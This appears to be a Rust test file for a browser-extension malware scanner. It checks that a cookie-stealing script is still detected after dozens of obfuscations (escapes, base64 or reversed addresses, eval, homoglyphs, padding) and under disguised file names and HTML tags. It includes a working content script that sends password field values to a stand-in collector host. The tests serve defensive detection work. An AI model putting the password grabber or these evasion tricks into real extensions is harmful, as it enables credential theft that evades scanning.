//! One theft, written in every way that the browser reads as a script: it is found, or what was not read is said.

use serde_json::json;

use super::{Case, Check, THEFT, THEFT_RULE, case, folder_of, holds, inspect, thief};

/// The theft is found.
fn found(files: &[(&str, &[u8])]) -> Check {
    let (_dir, folder) = folder_of(files.iter().copied());
    let report = inspect(&folder);
    let rules: Vec<_> = report.findings().map(|finding| finding.rule.as_str()).collect();
    holds(rules.contains(&THEFT_RULE), || format!("{:?}, {rules:?}, {:?}", report.worst(), report.errors))
}

fn utf16(text: &str, mark: [u8; 2], bytes: fn(u16) -> [u8; 2]) -> Vec<u8> {
    mark.into_iter().chain(text.encode_utf16().flat_map(bytes)).collect()
}

/// Scripts that the browser runs as the theft.
fn scripts() -> Vec<(&'static str, Vec<u8>)> {
    let text = THEFT.to_owned();
    let part = |from: &str, to: &str| {
        let changed = text.replace(from, to);
        assert_ne!(changed, text, "{from}");
        changed.into_bytes()
    };
    vec![
        ("plain", text.clone().into_bytes()),
        ("a mark of UTF-8 in front", [b"\xef\xbb\xbf", text.as_bytes()].concat()),
        ("UTF-16, the low byte first", utf16(&text, [0xff, 0xfe], u16::to_le_bytes)),
        ("UTF-16, the high byte first", utf16(&text, [0xfe, 0xff], u16::to_be_bytes)),
        ("bytes of Latin 1 in a comment", [b"// \xe9\xff\n", text.as_bytes()].concat()),
        ("bytes of no alphabet in a text", [b"const a = '\xff\xfe\xc3';\n", text.as_bytes()].concat()),
        ("zero bytes in a comment", [b"/* \0\0\0 */", text.as_bytes()].concat()),
        ("line ends of Windows", part("\n", "\r\n")),
        ("line ends of old Macs", [b"// begin\r", text.as_bytes()].concat()),
        ("a line separator behind a comment", format!("// begin\u{2028}{text}").into_bytes()),
        ("a paragraph separator behind a comment", format!("// begin\u{2029}{text}").into_bytes()),
        ("a comment as in a page", format!("<!-- begin\n{text}\n--> end").into_bytes()),
        ("a line for a shell in front", format!("#!/usr/bin/env node\n{text}").into_bytes()),
        ("a name with an escape", part("fetch(", "f\\u0065tch(")),
        ("a name with an escape in braces", part("cookies", "c\\u{6f}okies")),
        ("a property in brackets", part("chrome.cookies.getAll", "chrome['cookies']['getAll']")),
        ("a property in brackets with escapes", part("chrome.cookies.getAll", r"chrome['\x63ookies']['g\u0065tAll']")),
        ("a property in pieces", part("chrome.cookies.getAll", "chrome['coo' + 'kies']['get' + 'All']")),
        ("a property in a template", part("chrome.cookies.getAll", "chrome[`cookies`][`get${'All'}`]")),
        ("a property by a name", part("chrome.cookies.getAll", "const k = 'cookies', g = 'getAll'; chrome[k][g]")),
        ("by way of the global", part("chrome.", "globalThis.chrome.")),
        ("by way of self", part("chrome.", "self['chrome'].")),
        ("by the other name", part("chrome.", "browser.")),
        ("by a name for it", part("chrome.cookies.getAll", "const { cookies: jar } = chrome; jar.getAll")),
        ("with optional chaining", part("chrome.cookies.getAll", "chrome?.cookies?.getAll?.")),
        ("with a comma in front", part("fetch(", "(0, fetch)(")),
        ("the address in pieces", part("'https://collector.invalid/c'", "'https://coll' + 'ector.inv' + 'alid/c'")),
        ("the address with escapes", part("'https://collector.invalid/c'", r"'\x68ttps://\u0063ollector.invalid/c'")),
        ("the address in base64", part("'https://collector.invalid/c'", "atob('aHR0cHM6Ly9jb2xsZWN0b3IuaW52YWxpZC9j')")),
        (
            "the address by its letters",
            part(
                "'https://collector.invalid/c'",
                "'https://' + String.fromCharCode(99,111,108,108,101,99,116,111,114) + '.invalid/c'",
            ),
        ),
        (
            "the address backwards",
            part("'https://collector.invalid/c'", "'c/dilavni.rotcelloc//:sptth'.split('').reverse().join('')"),
        ),
        ("letters of no width between the words", part("(all) =>", "(all)\u{feff} =>")),
        ("names that read from right to left", part("all", "\u{5d0}\u{5d1}")),
        ("names in another alphabet", part("all)", "\u{430}ll)")),
        ("in an eval of a plain text", format!("eval({})", json!(text)).into_bytes()),
        ("in a Function of a plain text", format!("new Function({})()", json!(text)).into_bytes()),
        ("behind a megabyte of blanks", [" ".repeat(1 << 20).as_bytes(), text.as_bytes()].concat()),
        ("behind a hundred thousand lines", ["\n".repeat(100_000).as_bytes(), text.as_bytes()].concat()),
        (
            "in the middle of one long line",
            format!("{}{}{}", "var a=1;".repeat(20_000), text.trim(), "var b=2;".repeat(20_000)).into_bytes(),
        ),
    ]
}

/// Files of a package.
type Files = Vec<(&'static str, Vec<u8>)>;

/// Names under which the browser runs a script.
fn names() -> Vec<(&'static str, Files)> {
    let page = |script: &str| {
        json!({
            "manifest_version": 2, "name": "Sample", "version": "1.0", "permissions": ["cookies", "<all_urls>"],
            "background": {"page": script},
        })
    };
    let in_page = |name: &'static str, html: &str, more: &[(&'static str, &str)]| {
        let mut files =
            vec![("manifest.json", page("bg.html").to_string().into_bytes()), ("bg.html", html.as_bytes().to_vec())];
        files.extend(more.iter().map(|(name, text)| (*name, text.as_bytes().to_vec())));
        (name, files)
    };
    let worker = |name: &'static str, file: &'static str, more: &[(&'static str, &str)]| {
        let mut files = vec![("manifest.json", thief(file).into_bytes())];
        files.extend(more.iter().map(|(name, text)| (*name, text.as_bytes().to_vec())));
        (name, files)
    };
    vec![
        worker("a worker without an ending", "worker", &[("worker", THEFT)]),
        worker("a worker named as a text", "notes.txt", &[("notes.txt", THEFT)]),
        worker("a worker named as a style", "a.css", &[("a.css", THEFT)]),
        worker("a worker with a query", "bg.js?v=1", &[("bg.js", THEFT)]),
        worker("a worker with a slash in front", "/bg.js", &[("bg.js", THEFT)]),
        worker("a worker with a dot in front", "./bg.js", &[("bg.js", THEFT)]),
        worker("a worker with an escape in its name", "b%67.js", &[("bg.js", THEFT)]),
        worker("a worker in a hidden folder", ".git/bg.js", &[(".git/bg.js", THEFT)]),
        worker("a worker among the messages", "_locales/en/bg.js", &[("_locales/en/bg.js", THEFT)]),
        worker("a file that nothing names", "bg.js", &[("bg.js", "1;"), ("lib/old/unused.js", THEFT)]),
        worker("a folder and a file with blanks", "a b/c d.js", &[("a b/c d.js", THEFT)]),
        in_page("a script within a page", &format!("<script>{THEFT}</script>"), &[]),
        in_page("a script within a page in capitals", &format!("<SCRIPT>{THEFT}</SCRIPT>"), &[]),
        in_page("a script of a page", "<script src=bg.js></script>", &[("bg.js", THEFT)]),
        in_page("a script of a page by an address with escapes", "<script src='&#98;g.js'></script>", &[("bg.js", THEFT)]),
        in_page("a script of a page with a base", "<base href='lib/'><script src=bg.js></script>", &[("lib/bg.js", THEFT)]),
        in_page("a script of a page behind a comment", "<!-- > --><script src=bg.js></script>", &[("bg.js", THEFT)]),
        in_page("a script of a page behind a broken comment", "<!--> <script src=bg.js></script>", &[("bg.js", THEFT)]),
        in_page(
            "a script of a page with a line break in its tag",
            "<script\n src\n=\n'bg.js'\n></script>",
            &[("bg.js", THEFT)],
        ),
        in_page("a module of a page", "<script type=module src=bg.js></script>", &[("bg.js", THEFT)]),
        in_page("a script of a page without an ending", "<script src=data></script>", &[("data", THEFT)]),
        in_page("a script of a page with an ending of its own", "<script src=a.bin></script>", &[("a.bin", THEFT)]),
        in_page("a script of a page named as a text", "<script src=notes.txt></script>", &[("notes.txt", THEFT)]),
        in_page("a script of a page in a drawing", &format!("<svg><script>{THEFT}</script></svg>"), &[]),
    ]
}

/// What the browser puts into pages, whatever it is called: here it takes passwords.
fn content_scripts() -> Vec<Case> {
    const TAKES_PASSWORDS: &str = "document.querySelector('input[type=password]').addEventListener('change', (event) => \
        fetch('https://collector.invalid/p', { method: 'POST', body: event.target.value }));\n";
    let check = |file: &'static str| {
        let manifest = json!({
            "manifest_version": 3, "name": "Sample", "version": "1.0",
            "content_scripts": [{"matches": ["https://*/*"], "js": [file]}],
        });
        case(format!("a content script named {file}"), move || {
            let files = [("manifest.json", manifest.to_string().into_bytes()), (file, TAKES_PASSWORDS.into())];
            let (_dir, folder) = folder_of(files.iter().map(|(name, bytes)| (*name, bytes.as_slice())));
            let report = inspect(&folder);
            let rules: Vec<_> = report.findings().map(|finding| finding.rule.as_str()).collect();
            holds(rules.contains(&"sends-passwords"), || format!("{rules:?}, {:?}", report.errors))
        })
    };
    ["c.js", "c.txt", "c.css", "c", "c.dat", "c.png", "c.woff2", "c.wasm", "c.js.bak", "C.JS", "c.json", "c.html", "c.svg"]
        .map(check)
        .into()
}

pub fn cases() -> Vec<Case> {
    let written = scripts()
        .into_iter()
        .map(|(name, script)| case(name, move || found(&[("manifest.json", thief("bg.js").as_bytes()), ("bg.js", &script)])));
    let named = names().into_iter().map(|(name, files)| {
        case(name, move || found(&files.iter().map(|(name, bytes)| (*name, bytes.as_slice())).collect::<Vec<_>>()))
    });
    written.chain(named).chain(content_scripts()).collect()
}
